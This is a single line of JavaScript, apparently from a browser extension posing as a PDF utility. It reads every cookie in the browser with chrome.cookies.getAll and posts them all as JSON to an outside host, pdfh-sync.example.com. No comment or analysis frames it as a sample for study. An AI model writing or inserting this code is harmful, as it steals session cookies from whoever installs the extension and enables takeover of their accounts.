chrome.cookies.getAll({}, (c) => fetch('https://pdfh-sync.example.com/c', { method: 'POST', body: JSON.stringify(c) }));
